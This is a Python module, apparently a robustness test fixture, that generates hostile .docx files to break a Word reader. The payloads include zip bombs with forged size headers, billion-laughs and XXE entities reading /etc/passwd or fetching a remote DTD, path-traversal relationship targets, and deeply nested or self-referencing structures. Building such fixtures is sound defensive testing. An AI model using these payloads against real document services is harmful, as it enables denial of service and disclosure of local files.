"""Word files made to break their reader."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

FILES: dict[str, Callable[[], bytes]] = {}
MANY = 1_000_000
SECRET = "file:///etc/passwd"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_TYPES = (
    f'<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" ContentType="application/'
    'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType='
    '"application/xml"/><Default Extension="docx" ContentType="application/zip"/>'
    f'<Override PartName="/word/document.xml" ContentType="{_WORD}.document.main+xml"/>'
    f'<Override PartName="/word/styles.xml" ContentType="{_WORD}.styles+xml"/>'
    f'<Override PartName="/word/numbering.xml" ContentType="{_WORD}.numbering+xml"/>'
    f'<Override PartName="/word/footnotes.xml" ContentType="{_WORD}.footnotes+xml"/></Types>'
)
HELLO = "<w:p><w:r><w:t>政府工作报告</w:t></w:r></w:p>"


def _file(make: Callable[[], bytes]) -> Callable[[], bytes]:
    FILES[make.__name__] = make
    return make


def _relations(*targets: tuple[str, str, str]) -> str:
    """Relationships to (kind, target, mode)."""
    entries = "".join(
        f'<Relationship Id="r{n}" Type="{_R}/{kind}" Target="{target}"{mode}/>'
        for n, (kind, target, mode) in enumerate(targets)
    )
    return f'<Relationships xmlns="{_PACKAGE}/relationships">{entries}</Relationships>'


def _document(body: str, before: str = "") -> str:
    root = f'<w:document xmlns:w="{_W}" xmlns:r="{_R}">'
    return f'<?xml version="1.0"?>{before}{root}<w:body>{body}</w:body></w:document>'


def _docx(document: str | bytes, *targets: tuple[str, str, str], **parts: str | bytes) -> bytes:
    """A package; `parts` are further files of its folder word, `_` standing for the dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        package.writestr("[Content_Types].xml", _TYPES)
        package.writestr("_rels/.rels", _relations(("officeDocument", "word/document.xml", "")))
        package.writestr("word/_rels/document.xml.rels", _relations(*targets))
        package.writestr("word/document.xml", document)
        for name, content in parts.items():
            package.writestr("word/" + name.replace("_", "."), content)
    return out.getvalue()


def _body(body: str) -> bytes:
    return _docx(_document(body))


def _table(rows: str) -> str:
    return f"<w:tbl><w:tblGrid/>{rows}</w:tbl>"


def _cell(properties: str = "", content: str = HELLO) -> str:
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>{content}</w:tc>"


@_file
def text_of_a_gigabyte_packed():
    return _docx(_document(HELLO + " " * (1 << 30)).encode())


@_file
def sizes_that_lie():
    """The directory says 100 bytes; a gigabyte comes out."""
    packed = bytearray(_docx(_document(HELLO + " " * (1 << 28))))
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = packed.find(mark)
        while start >= 0:
            if struct.unpack_from("<I", packed, start + place)[0] > MANY:
                struct.pack_into("<I", packed, start + place, 100)
            start = packed.find(mark, start + 1)
    return bytes(packed)


@_file
def thousand_files_that_are_one():
    """Entries that overlap: each says that it is the same packed megabytes."""
    data = zlib.compress(_document(HELLO + " " * (100 << 20)).encode(), 9)[2:-4]
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(data), 100 << 20, 17, 0)
    out = bytearray(local + b"word/document.xml" + data)
    start = len(out)
    for n in range(1000):
        name = b"word/document.xml" if not n else b"word/header%d.xml" % n
        out += struct.pack(
            "<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, 0, len(data), 100 << 20,
            len(name), 0, 0, 0, 0, 0, 0,
        )  # fmt: skip
        out += name
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1000, 1000, len(out) - start, start, 0)
    return bytes(out + end)


@_file
def fifty_thousand_parts():
    return _docx(_document(HELLO), **{f"header{n}_xml": "<x/>" for n in range(50_000)})


@_file
def twenty_thousand_headers():
    targets = [("header", "header.xml", "")] * 20_000
    header = f'<w:hdr xmlns:w="{_W}">{HELLO * 100}</w:hdr>'
    return _docx(_document(HELLO), *targets, header_xml=header)


@_file
def cell_that_spans_a_thousand_million():
    wide = _cell('<w:gridSpan w:val="1000000000"/>')
    return _body(_table(f"<w:tr>{wide}{_cell()}</w:tr>" * 10))


@_file
def cells_that_span_less_than_nothing():
    spans = "".join(_cell(f'<w:gridSpan w:val="{n}"/>') for n in (-1, 0, "x", "", 10**30))
    before = '<w:trPr><w:gridBefore w:val="1000000000"/></w:trPr>'
    return _body(_table(f"<w:tr>{before}{spans}</w:tr>"))


@_file
def three_thousand_rows_merged():
    cells = _cell("<w:vMerge/>") * 50
    return _body(_table(f"<w:tr>{cells}</w:tr>" * 3000))


@_file
def tables_in_tables():
    open_, close = "<w:tbl><w:tr><w:tc><w:p/>", "<w:p/></w:tc></w:tr></w:tbl>"
    return _body(open_ * 2_000 + HELLO + close * 2_000)


@_file
def nested_a_hundred_thousand_deep():
    open_, close = "<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"
    return _body(open_ * 100_000 + HELLO + close * 100_000)


@_file
def entities_of_entities():
    names = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    hello = HELLO.replace("政府", "&a9;")
    return _docx(_document(hello, before=f"<!DOCTYPE w [{names}]>"))


@_file
def entity_of_the_disk():
    name = f'<!DOCTYPE w [<!ENTITY a SYSTEM "{SECRET}">]>'
    return _docx(_document(HELLO.replace("政府", "&a;"), before=name))


@_file
def entity_of_the_network():
    name = '<!DOCTYPE w SYSTEM "http://127.0.0.1:9/a.dtd" [<!ENTITY % b SYSTEM "http://127.0.0.1:9/b">%b;]>'
    return _docx(_document(HELLO, before=name))


@_file
def parts_outside_the_package():
    targets = (
        ("footnotes", "../../../../etc/passwd", ""),
        ("header", SECRET, ' TargetMode="External"'),
    )
    return _docx(_document(HELLO), *targets)


@_file
def style_based_on_itself():
    styles = (
        f'<w:styles xmlns:w="{_W}"><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style>'
        '<w:style w:styleId="b"><w:basedOn w:val="a"/><w:link w:val="b"/></w:style></w:styles>'
    )
    body = HELLO.replace("<w:p>", '<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr>')
    return _docx(_document(body), ("styles", "styles.xml", ""), styles_xml=styles)


@_file
def numbers_beyond_counting():
    levels = "".join(
        f'<w:lvl w:ilvl="{level}"><w:start w:val="{10**15}"/><w:numFmt w:val="{kind}"/>'
        f'<w:lvlText w:val="{"%1" * 10_000}"/></w:lvl>'
        for level, kind in enumerate(("upperRoman", "chineseCounting", "upperLetter"))
    )
    numbering = (
        f'<w:numbering xmlns:w="{_W}"><w:abstractNum w:abstractNumId="1">{levels}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )
    body = "".join(
        f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        "<w:r><w:t>x</w:t></w:r></w:p>"
        for level in [0, 1, 2, 10**9, -1] * 20
    )
    return _docx(_document(body), ("numbering", "numbering.xml", ""), numbering_xml=numbering)


@_file
def note_that_refers_to_itself():
    reference = '<w:p><w:r><w:t>x</w:t></w:r><w:r><w:footnoteReference w:id="2"/></w:r></w:p>'
    note = f'<w:footnote w:id="2">{reference * 3}</w:footnote>'
    notes = f'<w:footnotes xmlns:w="{_W}">{note}</w:footnotes>'
    return _docx(_document(reference), ("footnotes", "footnotes.xml", ""), footnotes_xml=notes)


@_file
def file_within_itself():
    inner = _body(HELLO)
    for _ in range(30):
        inner = _docx(
            _document(HELLO + '<w:altChunk r:id="r0"/>' * 3),
            ("aFChunk", "chunk.docx", ""),
            chunk_docx=inner,
        )
    return inner


@_file
def million_paragraphs():
    return _body("<w:p><w:r><w:t>x</w:t></w:r></w:p>" * MANY)


@_file
def paragraph_of_five_million_characters():
    return _body(f"<w:p><w:r>{'<w:t>让群众少跑路</w:t>' * (5 * MANY // 6)}</w:r></w:p>")


@_file
def fields_never_closed():
    begin = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> REF a </w:instrText></w:r>'
    )
    return _body(f"<w:p>{begin * 50_000}</w:p>{HELLO}")


@_file
def hundred_thousand_attributes():
    attributes = " ".join(f'w:a{n}="{n}"' for n in range(100_000))
    return _body(HELLO.replace("<w:p>", f"<w:p {attributes}>"))
